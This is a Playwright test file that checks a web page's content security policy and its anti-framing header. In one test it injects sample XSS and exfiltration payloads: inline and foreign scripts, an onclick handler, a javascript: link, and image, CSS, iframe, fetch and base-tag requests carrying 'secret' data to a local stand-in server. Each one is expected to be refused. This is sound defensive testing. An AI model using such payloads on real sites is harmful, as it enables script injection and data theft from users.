import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test as base, expect } from '@playwright/test'
import { type Server, startServer } from './server.ts'

/** Another site, which notes whatever a browser asks it for. */
interface Elsewhere {
  url: string
  asked: string[]
}

/** What screen.ts forbids of every page, breaking its content security policy, is done here on purpose. */
const test = base.extend<object, { server: Server; elsewhere: Elsewhere }>({
  server: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the needs of a fixture from here
    async ({}, use) => {
      const server = await startServer()
      await use(server)
      await server.stop()
    },
    { scope: 'worker', timeout: 60_000 },
  ],
  elsewhere: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the needs of a fixture from here
    async ({}, use) => {
      const asked: string[] = []
      const pixel = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64')
      const listener = createServer((request, answer) => {
        asked.push(request.url ?? '')
        if (request.url === '/') answer.setHeader('content-type', 'text/html').end('<img src="/control.gif">')
        else answer.setHeader('content-type', 'image/gif').setHeader('access-control-allow-origin', '*').end(pixel)
      }).listen(0, '127.0.0.1')
      await once(listener, 'listening')
      await use({ url: `http://127.0.0.1:${(listener.address() as AddressInfo).port}`, asked })
      listener.closeAllConnections()
      listener.close()
    },
    { scope: 'worker' },
  ],
  baseURL: ({ server }, use) => use(server.url),
})

test('what gets into a page neither runs there nor carries anything out', async ({ page, elsewhere }) => {
  await page.goto('/')
  await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toBeVisible()

  const refused = await page.evaluate(async (there) => {
    const violated: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
    const html = (text: string) => {
      const place = document.createElement('div')
      place.innerHTML = text
      document.body.append(place)
      return place
    }
    const script = document.createElement('script')
    script.textContent = 'window.ran = "inline script"'
    document.body.append(script)
    const foreign = document.createElement('script')
    foreign.src = `${there}/script.js`
    document.body.append(foreign)
    html('<button onclick="window.ran = \'handler\'">Press</button>').querySelector('button')?.click()
    html('<a href="javascript:window.ran = \'address\'">Go</a>').querySelector('a')?.click()
    html(`<img src="${there}/secret?words=of-mine">`)
    html(`<div style="background: url(${there}/background); width: 9px; height: 9px"></div>`)
    html(`<iframe src="${there}/frame"></iframe><object data="${there}/object"></object>`)
    html(`<base href="${there}/">`)
    const sent = await fetch(`${there}/fetched`).then(
      () => true,
      () => false,
    )
    const own = new Image()
    own.src = '/icon.svg'
    await own.decode()
    await new Promise((later) => setTimeout(later, 500))
    return { violated, sent, ran: (window as unknown as { ran?: string }).ran ?? null, base: document.baseURI }
  }, elsewhere.url)

  expect(refused.ran).toBeNull()
  expect(refused.sent).toBe(false)
  expect(refused.base).not.toContain(elsewhere.url)
  for (const guard of ['script-src-elem', 'script-src-attr', 'img-src', 'connect-src', 'frame-src', 'object-src'])
    expect(refused.violated).toContain(guard)
  expect(elsewhere.asked).toEqual([])

  await page.goto(elsewhere.url) // so that the silence above means something
  await expect.poll(() => elsewhere.asked).toContain('/control.gif')
})

test('no other site can put the page into a frame', async ({ page, server, elsewhere }) => {
  await page.goto(elsewhere.url)
  const shown = page.waitForResponse(`${server.url}/`)
  await page.evaluate((url) => {
    const frame = document.createElement('iframe')
    frame.src = url
    document.body.append(frame)
  }, server.url)
  expect((await shown).headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  await expect(page.frameLocator('iframe').getByRole('textbox')).toHaveCount(0)
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
})
